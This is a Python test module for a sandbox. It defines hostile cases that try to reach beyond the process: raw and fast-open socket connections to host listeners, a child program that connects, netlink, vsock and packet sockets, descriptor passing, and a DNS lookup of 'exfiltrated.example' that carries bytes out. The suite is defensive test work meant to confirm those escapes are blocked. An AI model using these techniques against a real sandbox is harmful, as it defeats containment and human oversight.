"""Reaching anything beyond the process: every address family, the host's sockets, the listener's side."""

from __future__ import annotations

from tests.sandbox.hostile.case import case, harms


def reach(name: str, attempts: str, family: str, kind: str, address: str):
    """A case that sends three bytes to one of the stage's listeners."""
    return case(
        name,
        attempts,
        f"""
        import socket
        def attack():
            with socket.socket(socket.{family}, socket.{kind}) as own:
                own.settimeout(2)
                own.connect({address})
                own.send(b"out")
        tried(attack)
        """,
        control=harms,
    )


def make(name: str, attempts: str, *arguments: str, **options):
    """A case that only makes a socket."""
    return case(
        name,
        attempts,
        f"""
        import socket
        refused(socket.socket, {", ".join(arguments)})
        """,
        **options,
    )


CASES = (
    reach(
        "connect_tcp",
        "connects to a port of the host's over IPv4",
        "AF_INET",
        "SOCK_STREAM",
        '("127.0.0.1", HOST["tcp4"])',
    ),
    reach(
        "connect_tcp6", "connects to a port of the host's over IPv6", "AF_INET6", "SOCK_STREAM", '("::1", HOST["tcp6"])'
    ),
    reach("send_udp", "sends a datagram over IPv4", "AF_INET", "SOCK_DGRAM", '("127.0.0.1", HOST["udp4"])'),
    reach("send_udp6", "sends a datagram over IPv6", "AF_INET6", "SOCK_DGRAM", '("::1", HOST["udp6"])'),
    reach("connect_unix", "connects to a socket of the host's file system", "AF_UNIX", "SOCK_STREAM", 'HOST["unix"]'),
    reach(
        "send_unix",
        "sends a datagram to a socket of the host's file system",
        "AF_UNIX",
        "SOCK_DGRAM",
        'HOST["unix_dgram"]',
    ),
    reach(
        "connect_abstract",
        "connects to an abstract socket, which no file system guards",
        "AF_UNIX",
        "SOCK_STREAM",
        'HOST["abstract"]',
    ),
    case(
        "send_without_connecting",
        "opens a connection with its first byte (TCP fast open)",
        """
        import socket
        def attack():
            with socket.socket() as own:
                own.sendto(b"out", socket.MSG_FASTOPEN, ("127.0.0.1", HOST["tcp4"]))
        tried(attack)
        """,
        control=harms,
    ),
    case(
        "connect_by_raw_call",
        "makes its socket by a raw system call",
        """
        import ctypes, socket, struct
        number, error = syscall(41 if os.uname().machine == "x86_64" else 198, 2, 1, 0)
        if number >= 0:
            address = struct.pack("=H", 2) + struct.pack(">H", HOST["tcp4"]) + socket.inet_aton("127.0.0.1") + bytes(8)
            number, error = syscall(42 if os.uname().machine == "x86_64" else 203, number, address, 16)
        held(number, error)
        """,
        control=harms,
    ),
    case(
        "connect_from_child_program",
        "lets another program connect",
        """
        import subprocess, sys
        code = f"import socket; socket.create_connection(('127.0.0.1', {HOST['tcp4']}), 2)"
        tried(lambda: subprocess.run([sys.executable or "/usr/bin/python3", "-I", "-c", code], timeout=8))
        """,
        control=harms,
    ),
    case(
        "listen",
        "waits for connections from outside",
        """
        import socket
        def attack():
            with socket.socket() as own:
                own.bind(("0.0.0.0", 0))
                own.listen()
        refused(attack)
        """,
    ),
    case(
        "resolve_name",
        "asks for the address of a name, which carries bytes out",
        """
        import socket
        found = []
        real = socket.socket
        try:
            with real(socket.AF_INET, socket.SOCK_DGRAM) as own:
                own.sendto(b"a question", ("127.0.0.1", HOST["udp4"]))
        except OSError:
            pass
        try:
            found = socket.getaddrinfo("exfiltrated.example", 80)
        except OSError as error:
            held(error)
        else:
            breach(found)
        """,
        control=harms,
    ),
    make("make_netlink", "makes a netlink socket, which talks to the kernel", "socket.AF_NETLINK", "socket.SOCK_RAW"),
    make("make_vsock", "makes a socket to the hypervisor", "socket.AF_VSOCK", "socket.SOCK_STREAM"),
    make("make_packet", "makes a socket that sees all packets", "socket.AF_PACKET", "socket.SOCK_RAW"),
    make("make_raw", "makes a raw IPv4 socket", "socket.AF_INET", "socket.SOCK_RAW", "1"),
    make(
        "make_multipath",
        "makes a multipath TCP socket, another protocol of the same family",
        "socket.AF_INET",
        "socket.SOCK_STREAM",
        "262",
    ),
    case(
        "make_any_family",
        "makes a socket of every family that the kernel has",
        """
        import socket
        found = []
        for family in range(2, 48):
            for kind in (1, 2, 3, 5):
                try:
                    socket.socket(family, kind).close()
                    found.append((family, kind))
                except OSError:
                    pass
        (breach if found else held)(found)
        """,
    ),
    case(
        "pass_descriptor",
        "makes a pair of sockets and sends itself descriptors, to reach those in flight",
        """
        import socket
        try:
            left, right = socket.socketpair()
            socket.send_fds(left, [b"x"], [0])
            _, numbers, _, _ = socket.recv_fds(right, 1, 4)
        except OSError as error:
            held(error)
        else:
            held(len(numbers))
        """,
        control=lambda plain: "HELD 1" in plain.output,
    ),
)
